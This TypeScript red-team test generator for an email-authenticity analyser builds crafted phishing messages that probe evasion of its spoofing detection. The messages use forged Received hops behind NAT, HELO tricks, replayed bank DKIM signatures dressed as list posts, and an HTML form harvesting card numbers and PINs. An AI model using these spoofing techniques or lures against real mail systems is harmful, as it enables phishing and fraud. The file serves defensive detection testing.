// Red-team probes, twenty-first round (December 2026): the rules as they stand after fff25f9.
// - lib/message/origin.ts unaddressedEntry / ownRelayName / innerHandOff: behind a NAT or proxy
//   that records one private address for every client, the client's HELO decides whether the
//   receiver's line is the entry. Names the rule accepts as "a relay of the receiver's own" that
//   owe nothing to the line the attacker forges below: a bare name (what Windows boxes and cloud
//   images greet with), a private suffix (`.lan`, `.home.arpa`, Azure's `internal.cloudapp.net`,
//   which any Azure VM really has), the receiver's own label under another suffix
//   (sameOrganisation: `mail.reader.net` over `by mx.reader.example`), and the ASSP rule (a HELO
//   copied into the forged line, the line naming the receiver's host) on a NAT, not a TCP proxy;
//   a HELO that leaves no name (EHLO ., which trimHost empties: `if (!name) return false`); and
//   the first-label rule, which lets any HELO sharing the receiver host's first word (mail., mx.)
//   walk past, since the forged line below must name the receiver anyway (CommuniGate Pro behind
//   a source NAT, its from-word read right). README's "What still fools" names only a HELO naming
//   the forged line's host or its bare label, a privately named receiver, and the TCP-proxy copy.
// - `--nat-address` controls: an IPv4-mapped record of the named address, and an IPv6 unique-local
//   range (mailcow with IPv6 in Docker).
// - lib/findings/timing.ts replayedSignature: a genuine signature weeks old, replayed, is a medium
//   `date-mismatch` read directly, but the replay rule asks only the signatures our own check passed
//   (vouchingSignatures without `excused`): tagged `[EXTERNAL] ` or dressed as a list post with a
//   footer, the same replay loses the concern and reads "unverified".
// - lib/findings/sender.ts: sender-other-org is medium only on our DMARC pass, so the Sender a
//   replay adds drops to low once a tag is undone (probe20's Reply-To shape, for Sender).
// - lib/findings/reply-to.ts listsOwn: a Reply-To equal to the List-Post the replayer wrote itself,
//   under the bank's name.
// - lib/auth/list-restore.ts / subject-tag.ts: a list prefix (any bracket under list evidence) made
//   of lure words; lib/auth/list-footer.ts listFooterBlock: a footer part named by RFC 2231
//   `filename*=` (an attachment the rule reads as inline text), and a base64 footer part (control).
// Read, no new case: IPv4-mapped, NAT64, 6to4, site-local and IPv4-compatible spellings of a hop's
// address (a non-internal address is the entry, so only internal ones can be walked past; mapped
// ones are read as IPv4), CommuniGate Pro's from-word itself (a HELO cannot reach the by clause
// without a second by, which makes the line unreadable), the ISO-8859-15 / Windows-1252 re-encodings (each
// form is rebuilt under its own label, so what is verified decodes to what is shown), gateway
// suffix tags (a gateway word only). Every case's meta says the attack and what is wanted.

import { ARGS, BANK, BANK_IP, DATE, NOT_TRUSTED, RECEIVER, SPOOFED } from '../kit';
import type { CaseWriter } from '../make';
import { onTop, submitted } from '../messages';
import { dovecotLmtp } from '../receivers';
import {
  ATTACKER_FOOTER,
  BANK_ENVELOPE,
  forgedBankHop,
  fromAttackerDirect,
  oldStatement,
  PROBE_ZONE,
  probeCorpus,
  probeEmitter,
  signInLure,
  statementReady,
  statementWithPdf,
  viaAttackerList,
} from '../rounds-kit';

/**
 * Probes HeaderLens reads wrong today: written by makeAll, kept out of the corpus until lib/ is
 * fixed (see the twenty-first round's report). Each comment: what it reads, what it should, which
 * rule, the fix proposed and its risk.
 */
// Fixed at 05:1x on 2026-12-04 (each now in the corpus), as proposed (lib/message/origin.ts): a
// bare or private name alone is the receiver's own only on a loopback address or with no public
// client below; the same label under another public suffix is another owner; the ASSP rule holds
// on loopback only; an internal network delivery naming no client is the entry; the first-label
// rule is gone (ten NAT probes that read "authenticated").
// Fixed at 05:2x on 2026-12-04 (each now in the corpus): an old signature's replay dressed with a
// tag or a list footer (its signing time read from t= and a signed Date), a Reply-To equal to a
// List-Post the attacker wrote under the bank's name, a Sender added to a tagged replay
// (lib/findings/timing.ts, reply-to.ts, sender.ts); a list prefix of lure words (a list's tag must
// name the list) and a footer part marked as an attachment with RFC 2231 filename*= (lib/auth).
export const PENDING_ENGINE_FIX: ReadonlySet<string> = new Set<string>([
  // "unverified" again since 05:4x (fixed at 05:2x, withdrawn): a bracket of lure words over the
  // bank's replayed notice dressed as a list post is undone as the list's prefix. Asking the bracket
  // to name the list turned seven genuine lists' prefixes "spoofed" (realworld26) and stopped no
  // replayer, who writes List-Id too (probe23). Never "authenticated"; README names the limit.
  'probe21-list-prefix-lure-words-on-bank-replay',
]);

// The reader's own MX is in the zone: the NAT'd box that writes `by mx.reader.example` is the host
// the internet reaches (lib/engine/origin-walk.ts innerHosts asks, since 05:2x on 2026-12-04).
const emit = probeEmitter(PROBE_ZONE);

export async function makeAll(write: CaseWriter): Promise<void> {
  natHelos(write);
  communigateBehindNat(write);
  declaredNat(write);
  await oldSignatureReplays(write);
  await listReplies(write);
  await listFooterParts(write);
}

// ---------------------------------------------------------------------------------------------
// Behind a NAT: HELO names the walk takes for the receiver's own relay
// ---------------------------------------------------------------------------------------------

/**
 * mailcow-dockerized (probe13/probe16's layout): Docker's userland-proxy hands every client on from
 * the bridge gateway (`natIp`), so Postfix records that address whatever the client was; the
 * client's HELO is the only name the line gives it. Dovecot's LMTP line on top.
 */
const mailcow = (helo: string, natIp = '172.22.1.1') => [
  `Return-Path: <${BANK_ENVELOPE}>`,
  'Delivered-To: robin@reader.example',
  dovecotLmtp(RECEIVER, BANK_ENVELOPE, 'robin@reader.example', 'kE8lAbb2PWd1XwAAtGkPgA', DATE),
  `Received: from ${helo} (unknown [${natIp.includes(':') ? `IPv6:${natIp}` : natIp}])\r\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\r\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\r\n\t(No client certificate requested)\r\n\tby ${RECEIVER} (Postcow) with ESMTPS id 4Zx9Qp0Aaaz1xYz\r\n\tfor <robin@reader.example>; ${DATE}`,
];

const behindNat = (helo: string, natIp?: string, forged = forgedBankHop()) =>
  onTop(signInLure(), ...mailcow(helo, natIp), forged);

function natHelos(write: CaseWriter): void {
  const tail =
    ' Under it the attacker writes one line of its own, "from mail.northbank.example (mail.northbank.example [192.0.2.10]) by mx.reader.example (Postfix)", and sends MAIL FROM:<security@northbank.example>. If the receiver’s line is walked past, the forged hop is the entry: SPF passes for the bank at 192.0.2.10, DMARC passes, "authenticated". Wanted: spoofed (the entry names an outside client by the NAT’s address: no address to check, DMARC fails under p=reject)';
  const cases: Array<[string, string, string, string?]> = [
    [
      'probe21-nat-helo-bare-windows-name-forged-bank-hop',
      'DESKTOP-4QH7K2N',
      "The docker-proxy mailcow box (Postfix records 172.22.1.1 for every client). The attacker greets with EHLO DESKTOP-4QH7K2N, a bare name, as Windows machines and much bulk-sending malware do; it names no host of the receiver and no line below. ownRelayName (lib/message/origin.ts) takes any name without a dot for a relay of the receiver’s own (`!n.includes('.')`), meant for a container id or Fastmail’s `from mx3`.",
    ],
    [
      'probe21-nat-helo-private-suffix-forged-bank-hop',
      'mail.attacker.lan',
      'The same box; EHLO mail.attacker.lan. PRIVATE_NAME (lib/message/origin.ts) takes any name under .lan, .local, .corp, .home, .internal, .test … for a relay inside the receiver’s network, whoever greets with it: a HELO is the client’s free text and no rule asks that the private name be the receiver’s (its host’s, or the organisation’s).',
    ],
    [
      'probe21-nat-helo-azure-internal-name-forged-bank-hop',
      'mailer01.4oi2ng0qgmsu5e5azilpcj1kdh.bx.internal.cloudapp.net',
      'The same box; the attacker sends from an Azure VM and greets with the VM’s real default name, mailer01.4oi2ng0qgmsu5e5azilpcj1kdh.bx.internal.cloudapp.net (Azure’s internal DNS suffix, added to PRIVATE_NAME at 04:5x for an Edge relay that greets with it: realworld23). Every Azure tenant’s VM has such a name; it says nothing about the receiver.',
    ],
    [
      'probe21-nat-helo-receiver-label-other-suffix-forged-bank-hop',
      'mail.reader.net',
      'The same box; EHLO mail.reader.net: the receiver’s own registrable label ("reader", from by mx.reader.example) under another suffix. sameOrganisation (lib/message/origin.ts ownRelayName) compares registrableLabel only, meant for `esa2.rz.uni-x.intern` over `by mx2.uni-x.example`; the HELO is never looked up, so the attacker need not even hold reader.net (and could register the label under any of a thousand suffixes if it had to).',
    ],
  ];
  for (const [name, helo, why] of cases)
    emit(write, {
      name,
      about: `${why}${tail}`,
      class: 'probe21-nat-helo-own-relay',
      eml: behindNat(helo),
      expect: SPOOFED,
    });
  emit(write, {
    name: 'probe21-nat-helo-bare-windows-name-no-options',
    about:
      'probe21-nat-helo-bare-windows-name-forged-bank-hop read with no options (no authserv-id: the walk without the receiver’s ids, whose domains are those of the lines above). The fallback asks the same ownRelayName. Wanted: spoofed',
    class: 'probe21-nat-helo-own-relay',
    args: [],
    eml: behindNat('DESKTOP-4QH7K2N'),
    expect: SPOOFED,
  });
  emit(write, {
    name: 'probe21-nat-helo-copied-into-forged-line-by-receiver',
    about:
      'The same box; an ordinary foreign greeting, EHLO mail.attacker.example (probe16’s control, which reads spoofed), but the line the attacker forges under the receiver’s copies that greeting and the receiver’s host: "from mail.attacker.example (mail.northbank.example [192.0.2.10]) by mx.reader.example (Postfix)". innerHandOff (lib/message/origin.ts), the ASSP rule ("a filter on the box passed the sender’s greeting on: the line below is the same host’s for a public client under that greeting"), walks the NAT’d entry past: next === by and the two HELOs are equal, both the attacker’s text. README names this for a TCP proxy only; it holds for every NAT and every HELO. Wanted: spoofed',
    class: 'probe21-nat-helo-own-relay',
    eml: behindNat('mail.attacker.example', undefined, forgedBankHop('mail.attacker.example')),
    expect: SPOOFED,
  });
  emit(write, {
    name: 'probe21-nat-helo-dot-forged-bank-hop',
    about:
      'The same box; EHLO . (a single dot: Postfix with its default empty smtpd_helo_restrictions accepts any argument and prints it, "from . (unknown [172.22.1.1])"). trimHost drops the dot, so the hop has neither a HELO nor a reverse name, and unaddressedEntry (lib/message/origin.ts) walks past an internal hop that names no client at all (`if (!name) return false`), as if it were the receiver’s own. The forged bank hop below is the entry. Wanted: spoofed (an internal network delivery that names no client is a stranger’s as much as one that names a foreign host)',
    class: 'probe21-nat-helo-own-relay',
    eml: behindNat('.'),
    expect: SPOOFED,
  });
  emit(write, {
    name: 'probe21-nat-ula-ipv6-helo-home-arpa-forged-bank-hop',
    about:
      'mailcow with IPv6 enabled in Docker: the userland-proxy hands IPv6 clients on from the bridge’s unique-local gateway, so Postfix records [IPv6:fd4d:6169:6c63:6f77::1] (RFC 4193) for them. EHLO gw.home.arpa (RFC 8375’s home network name, in PRIVATE_NAME) and the forged bank hop below. Wanted: spoofed',
    class: 'probe21-nat-helo-own-relay',
    eml: behindNat('gw.home.arpa', 'fd4d:6169:6c63:6f77::1'),
    expect: SPOOFED,
  });
}

/**
 * CommuniGate Pro behind a source-NAT load balancer (every client 10.0.0.5): its line is
 * `from [IP] (HELO name) by host (CommuniGate Pro SMTP …)`, the from-word its record (probe20).
 */
function communigateBehindNat(write: CaseWriter): void {
  const cgp = 'mail.hs-altstadt.example';
  const rcpt = 'pruefungsamt@hs-altstadt.example';
  const mail = submitted({
    from: 'Northbank Security <security@northbank.example>',
    to: `Pruefungsamt <${rcpt}>`,
    subject: 'Rückbuchung der Semestergebühr: bitte Karte bestätigen',
    date: 'Fri, 20 Nov 2026 10:00:00 +0100',
    body: 'Die Lastschrift wurde zurückgegeben. Bitte bestätigen Sie Ihre Karte: https://northbank-secure.example/karte\r\n',
  });
  const line = (client: string, id: string, time: string) =>
    `Received: from ${client}\r\n  by ${cgp} (CommuniGate Pro SMTP 6.3.19)\r\n  with ESMTPS id ${id} for ${rcpt}; Fri, 20 Nov 2026 ${time} +0100`;
  const deliver = (helo: string) =>
    onTop(
      mail,
      `Return-Path: <${BANK_ENVELOPE}>`,
      line(`[10.0.0.5] (HELO ${helo})`, '46281403', '10:00:05'),
      line(`[${BANK_IP}] (HELO mail.northbank.example)`, '46281399', '10:00:03'),
    );
  emit(write, {
    name: 'probe21-cgp-nat-helo-dot-forged-bank-hop',
    about:
      'A university’s CommuniGate Pro 6.3 behind a source-NAT load balancer (it records 10.0.0.5 for every client). The attacker sends EHLO . and writes under CommuniGate’s line one of the same shape, "from [192.0.2.10] (HELO mail.northbank.example) by mail.hs-altstadt.example (CommuniGate Pro SMTP 6.3.19)". fromSide’s CommuniGate branch (lib/message/received.ts) reads the HELO with CGP_HELO, which takes no name from "." (trimHost drops it) nor from one starting with a parenthesis, so the entry names no client and is walked past (lib/message/origin.ts unaddressedEntry, `if (!name) return false`); the forged line’s from-word, the bank’s address, passes SPF. (Whether CommuniGate Pro accepts "EHLO ." is not confirmed from a public copy.) Wanted: spoofed',
    class: 'probe21-received-communigate',
    args: ['--authserv-id', cgp],
    eml: deliver('.'),
    zone: BANK,
    expect: SPOOFED,
  });
  emit(write, {
    name: 'probe21-cgp-nat-helo-mail-first-label-forged-bank-hop',
    about:
      'The same CommuniGate Pro box and forged line, the attacker greeting as itself with the most common of names, EHLO mail.attacker.example (no trick: the NAT rule is meant to stop exactly this). The forged line names the receiver, "by mail.hs-altstadt.example", as it must to be taken for the receiver’s; ownRelayName’s first-label rule (lib/message/origin.ts: "the relay’s own host name under another suffix", `n.split(\'.\')[0] === next.split(\'.\')[0]`, meant for `mailgw.office` over `by mailgw.firm.example`) sees "mail" = "mail" and walks the entry past. Every receiver named mail.*, mx.*, smtp.* is open to every sender whose HELO starts with the same word; README names only a HELO naming the forged line’s host or its bare label. Wanted: spoofed',
    class: 'probe21-received-communigate',
    args: ['--authserv-id', cgp],
    eml: deliver('mail.attacker.example'),
    zone: BANK,
    expect: SPOOFED,
  });
  emit(write, {
    name: 'probe21-cgp-nat-helo-foreign-forged-bank-hop-control',
    about:
      'Control: the same CommuniGate Pro box and forged line, EHLO smtp-out7.attacker.example (a first label unlike the receiver’s): the entry names an outside client by the NAT’s address and ends the walk (the from-word is CommuniGate’s record). Wanted: spoofed (holds today)',
    class: 'probe21-received-communigate',
    args: ['--authserv-id', cgp],
    eml: deliver('smtp-out7.attacker.example'),
    zone: BANK,
    expect: SPOOFED,
  });
}

/** The same tricks with the NAT named (`--nat-address`): the delivery from it is the entry. */
function declaredNat(write: CaseWriter): void {
  emit(write, {
    name: 'probe21-declared-nat-ipv4-mapped-record-bare-helo',
    about:
      'Control: the bare-name HELO trick (probe21-nat-helo-bare-windows-name-forged-bank-hop) on a box whose Postfix listens on a dual-stack socket and records the bridge gateway IPv4-mapped, [IPv6:::ffff:172.22.1.1], read with --nat-address 172.22.1.1 as the reader named it. The mapped form is read as the IPv4 address (lib/message/ip.ts), so the named NAT is the entry. Wanted: spoofed (holds today)',
    class: 'probe21-declared-nat',
    args: [...ARGS, '--nat-address', '172.22.1.1'],
    eml: behindNat('DESKTOP-4QH7K2N', '::ffff:172.22.1.1'),
    expect: SPOOFED,
  });
  emit(write, {
    name: 'probe21-declared-nat-ipv6-ula-range-home-arpa-helo',
    about:
      'Control: probe21-nat-ula-ipv6-helo-home-arpa-forged-bank-hop read with the bridge’s IPv6 range named, --nat-address fd4d:6169:6c63:6f77::/64. Wanted: spoofed (holds today)',
    class: 'probe21-declared-nat',
    args: [...ARGS, '--nat-address', 'fd4d:6169:6c63:6f77::/64'],
    eml: behindNat('gw.home.arpa', 'fd4d:6169:6c63:6f77::1'),
    expect: SPOOFED,
  });
}

// ---------------------------------------------------------------------------------------------
// A replayed signature weeks old, beside the tag and list excuses (lib/findings/timing.ts)
// ---------------------------------------------------------------------------------------------

async function oldSignatureReplays(write: CaseWriter): Promise<void> {
  // The bank's genuine notice, signed (t=) on 1 October 2026 and dated so: seven weeks before the
  // receiver's stamp (20 November).
  const old = await oldStatement();
  emit(write, {
    name: 'probe21-replay-old-signature-direct-control',
    about:
      'Control: the bank’s genuine notice signed on 1 October, replayed unchanged from the attacker’s server on 20 November (a mass replay of one old signed message). DMARC passes on the bank’s signature; replayedSignature (lib/findings/timing.ts) finds it seven weeks older than the receiver’s stamp: date-mismatch, medium, authenticated-with-concerns. Wanted: suspicious (holds today)',
    class: 'probe21-old-signature-beside-excuse',
    eml: fromAttackerDirect(old),
    expect: { verdict: 'suspicious', findings: ['date-mismatch'] },
  });
  emit(write, {
    name: 'probe21-replay-old-signature-external-tag',
    about:
      'The same seven-week-old notice, replayed with "[EXTERNAL] " written in front of its Subject by the attacker: the bank’s signature fails, verifies in full once the gateway word is undone (subject-tag-added), and the verdict is changed-by-list. The old signature is no longer weighed: replayedSignature asks vouchingSignatures without `excused`, so the restored signature is not among those it dates (lib/findings/dkim-tags.ts says so: "the replay rule (timing.ts) does not yet"), and the concern that made the plain replay suspicious is gone. Adding a tag turns "suspicious" into "unverified" (probe20’s Reply-To shape, with the signature’s age). Wanted: suspicious, date-mismatch present',
    class: 'probe21-old-signature-beside-excuse',
    eml: fromAttackerDirect(old.replace('Subject: Your statement', 'Subject: [EXTERNAL] Your statement')),
    expect: { verdict: 'suspicious', findings: ['date-mismatch'] },
  });
  emit(write, {
    name: 'probe21-replay-old-signature-list-footer',
    about:
      'The same seven-week-old notice dressed as a list post (List-Id, List-Post, List-Unsubscribe at lists.attacker.example, a -bounces envelope) with a two-line footer appended: list-modified, unverified, no date-mismatch for the same reason. Wanted: suspicious, date-mismatch present (a list delays a post by minutes or hours, not weeks: the seven-day threshold stands with a list’s delay)',
    class: 'probe21-old-signature-beside-excuse',
    eml: viaAttackerList(`${old}${ATTACKER_FOOTER}`),
    expect: { verdict: 'suspicious', findings: ['date-mismatch'] },
  });
}

// ---------------------------------------------------------------------------------------------
// A Reply-To equal to the List-Post the replayer wrote; a list prefix of lure words
// ---------------------------------------------------------------------------------------------

async function listReplies(write: CaseWriter): Promise<void> {
  const notice = await statementReady('77131');
  const cardsDress = [
    'List-Id: Northbank card services <northbank-cards.lists.attacker.example>',
    'List-Post: <mailto:northbank.cards@lists.attacker.example>',
    'List-Unsubscribe: <mailto:northbank.cards-leave@lists.attacker.example>',
  ];
  emit(write, {
    name: 'probe21-list-reply-to-equals-list-post-names-bank',
    about:
      'The bank’s genuine notice (signed without Reply-To) replayed as a "list post": the attacker writes List-Post <mailto:northbank.cards@lists.attacker.example> and the same address as Reply-To under the bank’s name, "Northbank Card Services <northbank.cards@lists.attacker.example>", and appends a footer. reply-to.ts takes a Reply-To equal to List-Post for the list’s own (Mailman’s reply_goes_to_list) when only the restored signature vouches, so reply-to-other-org stays low and the reading is changed-by-list: unverified. probe20’s same replay with the Reply-To elsewhere reads suspicious; writing List-Post to match costs one header. Wanted: suspicious (reply-to-other-org medium)',
    class: 'probe21-list-reply-to',
    eml: viaAttackerList(
      `${onTop(notice, 'Reply-To: Northbank Card Services <northbank.cards@lists.attacker.example>')}${ATTACKER_FOOTER}`,
      cardsDress,
    ),
    expect: { verdict: 'suspicious', findings: ['reply-to-other-org'] },
  });
  // A Sender field (Outlook shows "<Sender> on behalf of <From>") at an organisation nothing
  // authenticates, added to the same replay.
  const withSender = onTop(notice, 'Sender: Northbank Fraud Desk <fraud-desk@cardcheck-help.example>');
  emit(write, {
    name: 'probe21-replay-sender-added-direct-control',
    about:
      'Control: the bank’s genuine notice (its signature covers no Sender) replayed from the attacker’s server with "Sender: Northbank Fraud Desk <fraud-desk@cardcheck-help.example>" added: Outlook shows "fraud-desk@cardcheck-help.example on behalf of Northbank", and replies to a Sender-bearing message go to Reply-To/From only, but the name on top is the attacker’s. DMARC passes on the bank’s signature; sender-other-org is medium (nothing authenticates cardcheck-help.example): authenticated-with-concerns. Wanted: suspicious (holds today)',
    class: 'probe21-sender-beside-excuse',
    eml: fromAttackerDirect(withSender),
    expect: { verdict: 'suspicious', findings: ['sender-other-org'] },
  });
  emit(write, {
    name: 'probe21-replay-sender-added-external-tag',
    about:
      'The same replay with "[EXTERNAL] " written before its Subject by the attacker: the restored signature excuses the failure (subject-tag-added, changed-by-list) and sender-other-org drops to low, because lib/findings/sender.ts makes it medium only when our DMARC check passes; probe20 made the unsigned Reply-To and Subject count beside the restored, gateway-recorded and forwarder-recorded signatures, not the Sender. Adding a tag turns "suspicious" into "unverified". Wanted: suspicious (sender-other-org medium)',
    class: 'probe21-sender-beside-excuse',
    eml: fromAttackerDirect(
      withSender.replace('Subject: Your statement', 'Subject: [EXTERNAL] Your statement'),
    ),
    expect: { verdict: 'suspicious', findings: ['sender-other-org'] },
  });
  emit(write, {
    name: 'probe21-list-reply-to-equals-list-post-list-name-control',
    about:
      'Control: the same list post with Mailman’s own reply_goes_to_list Reply-To, the list’s posting address with no display name (Reply-To: customers@lists.attacker.example, equal to List-Post): the list’s doing, not a replay’s. Wanted: unverified with list-modified (holds today; a fix for the probe above must keep it)',
    class: 'probe21-list-reply-to',
    eml: viaAttackerList(`${onTop(notice, 'Reply-To: customers@lists.attacker.example')}${ATTACKER_FOOTER}`),
    expect: { verdict: 'unverified', findings: ['list-modified'] },
  });
  emit(write, {
    name: 'probe21-list-prefix-lure-words-on-bank-replay',
    about:
      'The bank’s genuine notice replayed as a list post whose "subject prefix" is the lure: "[Northbank: card blocked - call +1 555 0100] Your statement is ready". Without list evidence such a bracket is refused (gatewayTag: a gateway’s words only; probe13, probe14); with List-Id and List-Post, which the replayer writes, SUBJECT_TAG (lib/auth/subject-tag.ts) takes any bracket of up to 64 characters for Mailman’s subject_prefix, the signature verifies once it is undone, and the reading is changed-by-list: unverified. Mailman’s prefix names the list ([customers], [Devel], with an optional post number); Sympa’s and Google Groups’ too. Wanted: not trusted',
    class: 'probe21-list-prefix',
    eml: viaAttackerList(
      notice.replace(
        'Subject: Your statement is ready',
        'Subject: [Northbank: card blocked - call +1 555 0100] Your statement is ready',
      ),
    ),
    expect: NOT_TRUSTED,
  });
  emit(write, {
    name: 'probe21-list-prefix-list-name-control',
    about:
      'Control: the same list post under Mailman’s prefix naming the list ("[customers] Your statement is ready", List-Id customers.lists.attacker.example). Wanted: unverified with list-modified (holds today)',
    class: 'probe21-list-prefix',
    eml: viaAttackerList(
      notice.replace('Subject: Your statement is ready', 'Subject: [customers] Your statement is ready'),
    ),
    expect: { verdict: 'unverified', findings: ['list-modified'] },
  });
}

// ---------------------------------------------------------------------------------------------
// A footer part named as an attachment by RFC 2231; a base64 footer part
// ---------------------------------------------------------------------------------------------

function lastPart(raw: string, boundary: string, part: string[]): string {
  const close = raw.lastIndexOf(`--${boundary}--`);
  if (close < 0) throw new Error('no closing delimiter');
  return `${raw.slice(0, close)}${[`--${boundary}`, ...part, ''].join('\r\n')}${raw.slice(close)}`;
}

async function listFooterParts(write: CaseWriter): Promise<void> {
  const mixed = await statementWithPdf('nb-mix-21a0c3', '77132');
  emit(write, {
    name: 'probe21-list-footer-part-rfc2231-filename-html',
    about:
      'The bank’s multipart/mixed notice (signed over Content-Type) replayed as a list post with a last part before the closing delimiter: "Content-Type: text/plain; charset=utf-8" and "Content-Disposition: inline; filename*=UTF-8\'\'Card-verification.html", holding an HTML form. listFooterBlock (lib/auth/list-footer.ts) refuses a part with a name or filename (probe20: an attachment is no footer), but its param() reads only `filename=`: the RFC 2231 spelling (`filename*=`, `filename*0=`), which Thunderbird, Outlook and Gmail honour, is taken for an inline footer. Mail apps list the part as an attachment named Card-verification.html, which opens in the browser as HTML; the reading is changed-by-list, unverified. Wanted: not trusted',
    class: 'probe21-list-footer-part',
    eml: viaAttackerList(
      lastPart(mixed, 'nb-mix-21a0c3', [
        'Content-Type: text/plain; charset=utf-8',
        "Content-Disposition: inline; filename*=UTF-8''Card-verification.html",
        '',
        '<html><body><form action="https://northbank-secure.example/confirm" method="post">',
        '<p>Northbank card verification</p><input name="card"><input name="pin"></form></body></html>',
        '',
      ]),
    ),
    expect: NOT_TRUSTED,
  });
  emit(write, {
    name: 'probe21-list-footer-part-base64-control',
    about:
      'Control: Mailman 2.1 adds its footer part with Python’s email package, which writes a UTF-8 part base64-encoded. A base64 inline text/plain footer part holding "Customers mailing list / https://lists.attacker.example/customers" is the accepted list residual: unverified with list-modified (holds today). Note for the report: the finding’s preview shows the footer’s base64 text, not what the mail app shows',
    class: 'probe21-list-footer-part',
    eml: viaAttackerList(
      lastPart(mixed, 'nb-mix-21a0c3', [
        'Content-Type: text/plain; charset="utf-8"',
        'MIME-Version: 1.0',
        'Content-Transfer-Encoding: base64',
        'Content-Disposition: inline',
        '',
        Buffer.from(
          '_______________________________________________\nCustomers mailing list\nhttps://lists.attacker.example/customers\n',
        ).toString('base64'),
        '',
      ]),
    ),
    expect: { verdict: 'unverified', findings: ['list-modified'] },
  });
}

export async function make(write: CaseWriter): Promise<void> {
  await probeCorpus(makeAll, PENDING_ENGINE_FIX, write);
}
